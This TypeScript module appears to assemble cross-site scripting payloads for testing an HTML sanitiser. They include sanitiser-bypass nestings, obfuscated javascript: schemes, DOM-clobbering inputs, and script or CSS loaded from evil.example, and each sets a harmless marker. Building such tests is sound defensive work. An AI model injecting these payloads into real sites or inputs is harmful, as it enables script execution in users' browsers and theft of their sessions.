import { readFileSync } from 'node:fs';

// Markup that executes when inserted unsanitised: elements with handlers, script addresses, and shapes that have bypassed
// sanitisers. Each sets `hasRun` of the window.
const run = 'top.hasRun=1';
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
];
const hosts = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'select autofocus',
  'audio src=x',
  'object',
  'marquee',
  'math',
  'p',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '&#106;avascript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
];
const carriers = [
  'a href',
  'form action',
  'iframe src',
  'object data',
  'embed src',
  'base href',
  'link rel=import href',
  'area href',
];
export const odd: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<svg><script>${run}</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<a href="https://evil.example" target=_top onclick=${run}>x</a>`,
  `<svg><animate attributeName=href values="javascript:${run}" /><a><text>x</text></a></svg>`,
  `<style>@import "//evil.example/x.css"; *{background:url(//evil.example)}</style>`,
  `<img src="x" srcset="//evil.example/a.png 1x" style="background:url(//evil.example)">`,
  `<p id=root class=stage name=body style="position:fixed;inset:0">x</p>`,
  `<input name=attributes><form id=parentNode><input name=nodeName></form>`,
  `<xmp><img src=x onerror=${run}></xmp>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<a href="//evil.example">x</a><a href="/\\evil.example">x</a>`,
  `<frameset onload=${run}></frameset>`,
  `<style>p{}</style><frameset onload=${run}></frameset>`,
];
export const markup: readonly string[] = [
  ...odd,
  ...hosts.flatMap((host) => handlers.map((handler) => `<${host} ${handler}=${run}>`)),
  ...hosts.flatMap((host) => handlers.map((handler) => `<${host}/${handler.toUpperCase()}="${run}"//>`)),
  ...carriers.flatMap((carrier) =>
    schemes.map((scheme) => `<${carrier}="${scheme}${run}">x</${carrier.split(' ')[0]}>`),
  ),
  ...hosts.flatMap((host) => odd.map((inner) => `<${host}>${inner}</${host.split(' ')[0]}>`)),
];

/** The lines of the public list, unchanged. */
export const publicPayloads: readonly string[] = readFileSync(new URL('payloads.csv', import.meta.url), 'utf8')
  .trimEnd()
  .split('\n')
  .slice(1)
  .map((line) => line.slice(1, -1).replaceAll('""', '"'));
